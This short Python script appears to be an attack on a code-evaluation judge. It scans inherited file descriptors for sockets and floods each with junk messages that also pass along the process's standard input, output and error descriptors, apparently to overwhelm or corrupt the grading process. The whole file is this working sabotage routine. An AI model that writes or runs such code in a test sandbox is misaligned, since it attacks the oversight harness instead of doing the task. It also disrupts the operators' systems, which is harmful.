# Sends the judge descriptors without end, along with nonsense.
import os, socket, stat
def attack():
    for fd in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                line = socket.socket(fileno=os.dup(fd))
                line.settimeout(0.2)
                for _ in range(100):
                    socket.send_fds(line, [b"{}\n"], [0, 1, 2])
        except (OSError, ValueError):
            pass
